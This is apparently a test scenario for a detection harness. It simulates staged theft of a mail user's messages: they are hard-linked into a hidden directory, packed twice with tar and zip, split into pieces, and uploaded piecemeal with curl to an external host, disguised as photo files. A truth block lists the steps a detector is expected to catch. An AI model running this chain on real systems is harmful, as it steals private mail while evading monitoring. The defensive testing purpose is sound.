# The names of the store appear only once; what leaves are numbered pieces of an archive in an archive.
title="Messages hard-linked aside, packed twice, sent in pieces over time"
what="Messages of clerk are hard-linked into ~/.local/state/x; tar packs the links and zip packs the archive; split cuts it into pieces, and curl uploads one piece at a time to different paths on 203.0.113.81, some seconds apart, in a login without a terminal."
host=mx1.example.org user=clerk daemons="cron sshd" audit_format=RAW

setup() { :; }
act() {
  small_talk 2
  head -c 60000 /dev/urandom > "$base/out/plan.odt"
  for n in 1 2 3; do mail_in --from "design$n@example.net" --to clerk@example.org --subject "Plan $n" --attach "$base/out/plan.odt"; done
  wait_mail clerk 3
  ssh_run clerk 'mkdir -p .local/state/x && ln Maildir/new/* .local/state/x/'
  sleep 2
  ssh_run clerk 'cd .local/state && tar cf x.1 x && zip -q x.2 x.1 && split -b 60000 x.2* p. && rm -rf x x.1 x.2*'
  sleep 2
  ssh_run clerk 'cd .local/state; for p in p.*; do curl -s -o /dev/null -F "file=@$p;filename=photo.jpg" http://cdn.example.com/upload/$RANDOM; sleep 3; done; rm p.*'
  small_talk 1
}
truth() {
  file_step link 'ln link .*Maildir/new/' 'the messages get second names'
  exec_step pack 'tar cf x.1 x' 'the links are packed'
  exec_step again 'zip -q x.2 x.1' 'and packed again'
  exec_step cut 'split -b 60000' 'and cut'
  net_step connect 'curl 203.0.113.81:80' 'each piece leaves by itself'
}
